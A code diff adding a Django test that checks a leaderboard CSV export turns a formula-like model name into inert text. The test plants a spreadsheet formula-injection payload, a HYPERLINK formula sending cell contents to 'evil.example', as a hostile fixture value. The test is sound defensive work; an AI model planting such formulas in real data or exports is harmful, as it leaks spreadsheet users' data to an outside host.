@@ -10,6 +10,7 @@ from django.urls import reverse
 from rest_framework.test import APIClient
 
 from curation.models import SnapshotPolicy
+from evaluation.models import EvaluationRun
 from tests.factories import (
     DatasetFactory,
     EvalResultFactory,
@@ -167,3 +168,21 @@ def test_viewers_read_but_cannot_launch(client, viewer, board):
 def test_anonymous_users_are_sent_to_login(client, board):
     response = client.get(reverse("evaluation:leaderboard"))
     assert response.status_code == 302 and "login" in response["Location"]
+
+
+def test_csv_export_neutralises_a_formula_in_a_run_name(client, viewer, board):
+    """A run named like a spreadsheet formula lands in the CSV as text, not a live formula
+    (every CSV goes through core.csv_export); numbers, negative ones too, stay numbers."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    # The label a row shows is the evaluated model's, named by a user (a run, a model id).
+    EvaluationRun.objects.filter(training_run=board[SnapshotPolicy.RELABEL]).update(
+        model_label=hostile
+    )
+    client.force_login(viewer)
+    response = client.get(reverse("evaluation:leaderboard_csv"))
+    table = list(csv.DictReader(io.StringIO(response.content.decode())))
+    labels = [row["model"] for row in table]
+    assert "'" + hostile in labels and hostile not in labels
+    for row in table:  # every score and delta still reads as a number
+        for column in ("beir:scifact", "delta_beir:scifact"):
+            assert row[column] == "" or float(row[column]) == float(row[column])
